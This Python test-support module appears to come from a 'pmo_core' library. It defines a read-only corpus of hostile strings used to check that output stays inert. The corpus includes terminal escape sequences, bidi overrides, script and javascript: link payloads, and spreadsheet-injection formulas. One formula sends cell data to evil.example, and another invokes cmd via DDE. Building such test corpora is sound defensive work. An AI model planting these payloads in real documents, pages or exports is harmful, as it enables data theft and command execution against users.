"""A corpus of hostile strings, to test that output keeps data inert."""

from __future__ import annotations

from collections.abc import Iterator, Mapping


class _HostileStrings(Mapping[str, str]):
    """A read-only mapping of short labels to hostile strings: see ``HOSTILE_STRINGS``.

    Example::

        from pmo_core.testing import HOSTILE_STRINGS

        for label, text in HOSTILE_STRINGS.items():
            assert "\x1b" not in render(text), label
    """

    def __init__(self, strings: Mapping[str, str]) -> None:
        self._strings = dict(strings)

    def __getitem__(self, label: str) -> str:
        return self._strings[label]

    def __iter__(self) -> Iterator[str]:
        return iter(self._strings)

    def __len__(self) -> int:
        return len(self._strings)

    def __repr__(self) -> str:
        return f"HOSTILE_STRINGS({', '.join(self._strings)})"


HOSTILE_STRINGS: Mapping[str, str] = _HostileStrings(
    {
        # Terminal controls: colour, window title, hidden hyperlink, bell, overwrite.
        "esc-csi": "\x1b[31mred\x1b[0m and \x1b[2J cleared",
        "osc-title": "\x1b]0;owned\x07title",
        "osc-hyperlink": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
        "bel": "ring\x07ring",
        "carriage-return": "looks fine\rEVIL",
        "backspace": "abc\x08\x08\x08xyz",
        "c1-csi": "\x9b31mred\x9b0m",
        "del": "del\x7fete",
        "nul": "nul\x00byte",
        # Bidi controls: "exe.png" on screen, "gnp.exe" in the data.
        "rlo": "\u202egnp.exe",
        "isolates": "\u2066abc\u2069 \u2067def\u2069",
        # Line breaks of every kind, one of them ending a heading and opening another.
        "newline": "first line\nsecond line",
        "crlf": "first line\r\nsecond line",
        "line-separator": "first\u2028second\u2029third",
        "heading": "Alpha\n# Owned heading\n---\n- list item",
        # HTML and links a Markdown renderer would run or follow.
        "script": "<script>alert(1)</script>",
        "img-onerror": "<img src=x onerror=alert(1)>",
        "js-link": "[x](javascript:alert(1))",
        "js-image": "![x](javascript:alert(1))",
        "autolink": "<javascript:alert(1)>",
        "entity": "&lt;b&gt; &amp; &#60;",
        # Spreadsheet formulas (OWASP CSV injection), and a value that already looks escaped.
        "formula-equals": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
        "formula-plus": "+1+cmd|' /C calc'!A0",
        "formula-minus": "-2+3",
        "formula-at": "@SUM(1,2)",
        "formula-tab": "\t=1+1",
        "formula-cr": "\r=1+1",
        "quoted-formula": "'=1+1",
        # Markdown structure: table pipes, code, emphasis, backslashes.
        "pipes": "a | b | c",
        "backticks": "`code` and ```fence```",
        "emphasis": "*bold* _em_ ~~gone~~",
        "backslash": "C:\\temp\\ \\",
        # Very long: 100,000 characters.
        "long": "x" * 100_000,
    }
)
"""Strings an attacker would store, by a short label: terminal escape sequences (ESC, OSC,
BEL, C1 controls, carriage return), bidi overrides (U+202E), NUL, line breaks, HTML and
``javascript:`` links, spreadsheet formulas (``=``, ``+``, ``-``, ``@``, tab, carriage
return), Markdown pipes, backticks and emphasis, and a 100,000-character string.

pmo-core's domain refuses many of them on input, but output must stay inert whatever the
store holds (records written by an older version or another tool): test a renderer, a
command or an exporter against every one. The mapping is read-only.

Example::

    import pytest

    from pmo_core.testing import HOSTILE_STRINGS

    def to_markdown(value: str) -> str:  # the renderer under test
        return value.replace("<", "&lt;").replace("\\x1b", "").replace("\\n", " ")

    @pytest.mark.parametrize("label", ["script", "esc-csi", "newline"])
    def test_renders_inert(label):
        out = to_markdown(HOSTILE_STRINGS[label])
        assert "<script" not in out and "\\x1b" not in out and "\\n" not in out

    def test_every_string_is_there():
        assert len(HOSTILE_STRINGS["long"]) == 100_000
        assert all(isinstance(s, str) for s in HOSTILE_STRINGS.values())
"""
